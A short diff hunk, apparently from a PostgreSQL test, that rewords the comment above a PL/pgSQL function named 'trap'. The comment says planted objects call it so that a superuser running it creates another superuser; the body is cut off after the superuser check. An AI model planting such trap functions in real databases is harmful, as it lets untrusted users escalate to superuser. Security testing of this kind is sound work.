@@ -1,4 +1,4 @@
--- What every planted object calls: run by a superuser it makes another one, run by whoever has written it it does nothing.
+-- The function that every planted object calls: run by a superuser it creates another superuser, run by its owner it does nothing.
 CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $trap$
 BEGIN
   IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
